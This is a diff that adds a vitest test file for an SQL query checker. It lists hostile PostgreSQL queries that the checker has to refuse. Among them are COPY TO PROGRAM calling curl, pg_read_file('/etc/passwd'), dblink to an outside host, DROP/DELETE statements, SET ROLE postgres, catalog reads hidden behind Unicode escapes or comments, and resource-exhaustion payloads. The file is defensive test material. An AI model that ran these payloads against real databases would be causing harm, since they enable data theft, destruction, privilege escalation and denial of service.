@@ -1,0 +1,134 @@
+import { describe, expect, it } from "vitest";
+import { checkQuery } from "../../../runtime/declarations/sql/check-query.ts";
+import { unmarked } from "./marked.ts";
+import { queryWith, scope } from "./query-cases.ts";
+
+/** A hostile query: what it tries, the code of its diagnostics, and its text with a mark at each expected position. */
+type Attack = readonly [tries: string, code: string, sql: string];
+
+const attacks: readonly Attack[] = [
+  // Statements
+  ["to insert", "sql-statement", "§INSERT INTO deposits SELECT * FROM deposits"],
+  ["to update", "sql-statement", "-- harmless\n§UPDATE deposits SET assets = 0"],
+  ["to delete", "sql-statement", "§DELETE FROM deposits"],
+  ["to merge", "sql-statement", "§MERGE INTO deposits d USING deposits s ON true WHEN MATCHED THEN DELETE"],
+  ["to drop a table", "sql-statement", "§DROP TABLE deposits"],
+  ["to copy to a program", "sql-statement", "§COPY deposits TO PROGRAM 'curl example.com'"],
+  ["to become another role", "sql-statement", "§SET ROLE postgres"],
+  ["to reset the transaction", "sql-statement", "§ROLLBACK"],
+  ["to run a block of code", "sql-statement", "§DO $$ BEGIN PERFORM pg_sleep(1); END $$"],
+  ["to explain with execution", "sql-statement", "§EXPLAIN ANALYZE SELECT 1"],
+  ["to listen", "sql-statement", "§LISTEN channel"],
+  ["to lock a table", "sql-statement", "§LOCK TABLE deposits"],
+  ["a second statement", "sql-statement", `${queryWith()};\n  §DELETE FROM deposits`],
+  ["a second statement after a comment", "sql-statement", `${queryWith()}; /* ; */ §SELECT 1`],
+  ["a statement that a comment hides", "sql-statement", "/* SELECT 1 */ §TRUNCATE deposits -- SELECT 1"],
+  ["a prepared statement", "sql-statement", "§PREPARE p AS SELECT 1"],
+
+  // Writing and locking in a SELECT
+  ["a modifying common table expression", "refused-syntax", queryWith({ before: "WITH gone AS (DELETE FROM §deposits RETURNING *)\n" })],
+  [
+    "an inserting common table expression",
+    "refused-syntax",
+    queryWith({ before: "WITH w AS (INSERT INTO §deposits DEFAULT VALUES RETURNING 1)\n" }),
+  ],
+  [
+    "to create a table",
+    "refused-syntax",
+    queryWith({ amount: "assets" }).replace("\nFROM", " INTO §copied\nFROM").replace("AS amount INTO", "AS amount INTO"),
+  ],
+  ["to lock rows", "refused-syntax", queryWith({ after: "\n§FOR UPDATE" })],
+  ["to lock rows of one table", "refused-syntax", queryWith({ after: " FOR SHARE OF §deposits NOWAIT" })],
+
+  // Relations
+  ["the catalog of roles", "refused-relation", queryWith({ and: "EXISTS (SELECT FROM §pg_authid)" })],
+  ["the qualified catalog", "refused-relation", queryWith({ and: "EXISTS (SELECT FROM §pg_catalog.pg_class)" })],
+  ["the information schema", "refused-relation", queryWith({ from: "deposits, §information_schema.tables" })],
+  ["tables of the schema public", "refused-relation", queryWith({ from: "§public.api_keys" })],
+  ["another database", "refused-relation", queryWith({ from: "§other.public.deposits" })],
+  ["tables of another protocol", "refused-relation", queryWith({ from: "§cq_protocol_01.deposits" })],
+  ["settings", "refused-relation", queryWith({ from: "deposits CROSS JOIN §pg_settings" })],
+  ["views of the schema that are not documented", "refused-relation", queryWith({ from: "§api.community_reader" })],
+  ["a quoted catalog", "refused-relation", queryWith({ from: '§"pg_catalog"."pg_shadow"' })],
+  ["a catalog by a Unicode escape", "refused-relation", queryWith({ from: '§U&"pg\\005fauthid"' })],
+  [
+    "a catalog behind its own common table expression",
+    "refused-relation",
+    queryWith({ before: "WITH pg_authid AS (SELECT * FROM §pg_authid)\n" }),
+  ],
+  [
+    "a catalog outside of a common table expression of its name",
+    "refused-relation",
+    queryWith({ and: "EXISTS (SELECT FROM (WITH pg_user AS (SELECT 1) SELECT FROM pg_user) inside, §pg_user)" }),
+  ],
+
+  // Functions
+  ["to sleep", "refused-function", queryWith({ and: "§pg_sleep(60) IS NULL" })],
+  ["to sleep by the qualified name", "refused-function", queryWith({ amount: "§pg_catalog.pg_sleep(60)" })],
+  ["to sleep in FROM", "refused-function", queryWith({ from: "deposits, §pg_sleep(60)" })],
+  ["to sleep in the order", "refused-function", queryWith().replace("ORDER BY owner", "ORDER BY §pg_sleep(60)")],
+  ["to sleep in the limit", "refused-function", queryWith({ from: "(SELECT * FROM deposits LIMIT (SELECT 1 FROM §pg_sleep(60))) d" })],
+  ["to sleep in a window", "refused-function", queryWith({ amount: "sum(assets) OVER (PARTITION BY §pg_sleep(60))" })],
+  ["to sleep in a filter", "refused-function", queryWith({ amount: "sum(assets) FILTER (WHERE §pg_sleep(60) IS NULL)" })],
+  ["to set a setting", "refused-function", queryWith({ and: "§set_config('role', 'postgres', false) <> ''" })],
+  ["to read a setting", "refused-function", queryWith({ and: "§current_setting('data_directory') <> ''" })],
+  ["to run text as a query", "refused-function", queryWith({ and: "§query_to_xml('SELECT 1', true, true, '') IS NULL" })],
+  ["to take an advisory lock", "refused-function", queryWith({ and: "§pg_advisory_lock(1) IS NULL" })],
+  ["to notify", "refused-function", queryWith({ and: "§pg_notify('channel', 'text') IS NULL" })],
+  ["to import a large object", "refused-function", queryWith({ and: "§lo_import('/etc/passwd') = 1" })],
+  ["to create a large object", "refused-function", queryWith({ and: "§lo_from_bytea(0, 'x') = 1" })],
+  ["to read a file", "refused-function", queryWith({ and: "§pg_read_file('/etc/passwd') = ''" })],
+  [
+    "to connect elsewhere",
+    "refused-function",
+    queryWith({ from: "deposits, §dblink('host=example.com', 'SELECT 1') AS d (x int)" }).replace(" AS d (x int)", ""),
+  ],
+  ["to end other sessions", "refused-function", queryWith({ and: "§pg_terminate_backend(1)" })],
+  ["to advance a sequence", "refused-function", queryWith({ and: "§nextval('s') = 1" })],
+  ["many rows", "refused-function", queryWith({ from: "deposits, §generate_series(1, 1000000000)" })],
+  ["a long text", "refused-function", queryWith({ and: "§repeat('x', 1000000000) = ''" })],
+  ["a long padded text", "refused-function", queryWith({ and: "§lpad('', 1000000000) = ''" })],
+  ["a long formatted text", "refused-function", queryWith({ and: "§format('%1000000000s', 1) = ''" })],
+  ["a long replaced text", "refused-function", queryWith({ and: "§replace('aa', 'a', 'aaaa') = ''" })],
+  ["an expensive regular expression", "refused-function", queryWith({ and: "§regexp_count('aaaaaaaa', '(a*)*b') = 1" })],
+  ["a function of another schema", "refused-function", queryWith({ and: "§public.api_keys() = 1" })],
+  ["the time", "refused-function", queryWith({ and: "§now() IS NULL" })],
+
+  // Operators, types and syntax
+  ["a regular expression", "refused-operator", queryWith({ and: "'aaaa' §~ '(a*)*b'" })],
+  ["SIMILAR TO", "refused-operator refused-function", queryWith({ and: "'aaaa' §SIMILAR TO '(a*)*b'" })],
+  ["an operator of a schema", "refused-operator", queryWith({ and: "1 §OPERATOR(public.=) 1" })],
+  ["an operator behind ANY", "refused-operator", queryWith({ and: "'x' §~ ANY (SELECT '(a*)*b')" })],
+  ["to look up a function by a type", "refused-type", queryWith({ and: "'pg_sleep'::§regproc IS NULL" })],
+  ["to look up a table by a type", "refused-type", queryWith({ and: "CAST('pg_authid' AS §regclass) IS NULL" })],
+  ["a padded type", "refused-type", queryWith({ and: "'x'::§char(10000000) = ''" })],
+  ["a function as a field", "refused-syntax", queryWith({ amount: "(§assets).pg_sleep" })],
+  [
+    "a recursive bomb",
+    "refused-syntax refused-relation",
+    queryWith({ before: "§WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM §r)\n" }),
+  ],
+  ["the name of the session's user", "refused-syntax", queryWith({ and: "§current_user = ''" })],
+  ["a sample of a table", "refused-syntax", queryWith({ from: "deposits TABLESAMPLE §SYSTEM (1)" })],
+  ["every grouping", "refused-syntax", queryWith({ and: "EXISTS (SELECT 1 FROM deposits GROUP BY §CUBE (owner, assets))" })],
+  ["XML", "refused-syntax", queryWith({ and: "§xmlelement(name x) IS NULL" })],
+  ["a table of JSON", "refused-syntax", queryWith({ from: "deposits, §JSON_TABLE('[]', '$[*]' COLUMNS (x int PATH '$'))" })],
+  ["an array slice", "refused-syntax", queryWith({ and: "(ARRAY[1, 2])[§1:2] IS NULL" })],
+
+  // Parameters
+  ["a parameter by number", "unknown-parameter", queryWith({ and: "owner = §$1" })],
+  ["an unknown parameter", "unknown-parameter", queryWith({ and: "owner = §:user" })],
+  ["a parameter of other operations", "unknown-parameter", queryWith({ and: "owner = §:pool" })],
+];
+
+describe("hostile SQL", () => {
+  it.each(attacks)("is refused if it tries %s", (_, codes, marked) => {
+    const { text, locations } = unmarked("spec/community/x/balances.sql", marked);
+    const { query, diagnostics } = checkQuery("spec/community/x/balances.sql", text, scope);
+    expect(query).toBeNull();
+    expect(diagnostics.map(({ code }) => code)).toEqual(codes.split(" ").length === 1 ? locations.map(() => codes) : codes.split(" "));
+    expect(new Set(diagnostics.map(({ file, line, column }) => `${file}:${line}:${column}`))).toEqual(
+      new Set(locations.map(({ file, line, column }) => `${file}:${line}:${column}`)),
+    );
+  });
+});
